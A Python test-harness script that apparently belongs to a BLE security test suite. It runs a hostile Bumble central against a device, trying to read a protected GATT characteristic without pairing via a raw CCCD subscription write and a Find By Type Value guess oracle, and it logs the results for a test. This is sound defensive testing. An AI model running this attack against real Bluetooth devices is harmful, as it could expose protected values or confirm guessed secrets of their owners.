#!/usr/bin/env python3
"""A hostile Bumble central against a device that protects some values (issue 25).

Attack: "protected values in clear". A central that never pairs connects to the device found
advertising --name and goes around the read security of a protected characteristic:
  subscribe           writes the characteristic's CCCD (notifications, and indications when the
                      characteristic indicates) with a raw ATT Write Request, then listens for
                      --listen seconds for any Handle Value Notification or Indication of it;
  find-by-type-value  asks Find By Type Value for the characteristic's UUID and a guessed value
                      (--value, hex): a match would confirm the guess without ever reading it
                      (a value oracle).
What a secure device does (Core Vol 3 Part C §10.3, Part F §3.4.1.1): the CCCD write is refused
as a read of the value would be (Insufficient Authentication 0x05 without a bond, Insufficient
Encryption 0x0F with one), nothing is notified or indicated to the unencrypted link, and Find By
Type Value finds nothing (Attribute Not Found 0x0A).

Prints one line per observation, for the test to read:
  CONNECTED <address>
  CCCD_WRITE handle=0x0010 status=0x05          (status=ok when the device accepted it)
  NOTIFICATION handle=0x000F value=<hex>        (INDICATION likewise)
  FIND_BY_TYPE_VALUE status=0x0A                (or found=0x000F-0x000F,...)
  DONE notifications=N indications=N
"""
import argparse
import asyncio
import sys

from bumble import att, hci
from bumble.core import UUID
from bumble.device import Device
from bumble.transport import open_transport

import attacker as kit  # same directory: what the steered Bumble peers share
from attacker import say


async def attack(args):
    uuid = kit.parse_uuid(args.uuid)
    counts = {"NOTIFICATION": 0, "INDICATION": 0}
    async with await open_transport(args.transport) as transport:
        device = Device.with_hci("Attacker", hci.Address(args.address), transport.source, transport.sink)
        await device.power_on()

        # Every notification and indication the device sends, whether or not anyone subscribed.
        def watching(kind, original):
            def handler(pdu):
                counts[kind] += 1
                say(f"{kind} handle=0x{pdu.attribute_handle:04X} value={bytes(pdu.attribute_value).hex()}")
                return original(pdu)
            return handler

        def on_connection(address, connection):
            say(f"CONNECTED {address}")
            client = connection.gatt_client
            client.on_att_handle_value_notification = watching("NOTIFICATION", client.on_att_handle_value_notification)
            client.on_att_handle_value_indication = watching("INDICATION", client.on_att_handle_value_indication)

        _, connection, peer = await kit.connect_and_discover(device, args.name, args.timeout, on_connection)
        client = connection.gatt_client
        target = kit.characteristic(peer, uuid)
        if target is None:
            say(f"MISSING {uuid}")
            return 2
        say(f"TARGET handle=0x{target.handle:04X} properties=0x{int(target.properties):02X}")

        if args.mode == "subscribe":
            await target.discover_descriptors()
            cccd = target.get_descriptor(UUID.from_16_bits(0x2902))
            if cccd is None:
                say("MISSING CCCD")
                return 2
            bits = 0x0001 if int(target.properties) & 0x10 else 0
            if int(target.properties) & 0x20:
                bits |= 0x0002
            status, _ = await kit.att_request(client, att.ATT_Write_Request(attribute_handle=cccd.handle, attribute_value=bits.to_bytes(2, "little")))
            say(f"CCCD_WRITE handle=0x{cccd.handle:04X} status={status}")
            await asyncio.sleep(args.listen)
        else:
            guess = bytes.fromhex(args.value)
            status, response = await kit.att_request(
                client,
                att.ATT_Find_By_Type_Value_Request(
                    starting_handle=0x0001, ending_handle=0xFFFF, attribute_type=uuid, attribute_value=guess))
            if status == "ok":
                found = ",".join(f"0x{start:04X}-0x{end:04X}" for start, end in response.handles_information)
                say(f"FIND_BY_TYPE_VALUE found={found}")
            else:
                say(f"FIND_BY_TYPE_VALUE status={status}")
        say(f"DONE notifications={counts['NOTIFICATION']} indications={counts['INDICATION']}")
        await connection.disconnect()
    return 0


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("mode", choices=["subscribe", "find-by-type-value"])
    parser.add_argument("--transport", required=True, help="e.g. tcp-client:127.0.0.1:PORT")
    parser.add_argument("--name", required=True, help="the advertised name of the device attacked")
    parser.add_argument("--uuid", required=True, help="the protected characteristic (16-bit hex or a full UUID)")
    parser.add_argument("--value", default="", help="find-by-type-value: the guessed value, hex")
    parser.add_argument("--listen", type=float, default=3.0, help="subscribe: seconds to wait for values")
    parser.add_argument("--timeout", type=float, default=15.0)
    parser.add_argument("--address", default="C0:00:00:00:00:A5", help="the attacker's static random address")
    args = parser.parse_args()
    sys.exit(asyncio.run(attack(args)))


if __name__ == "__main__":
    main()
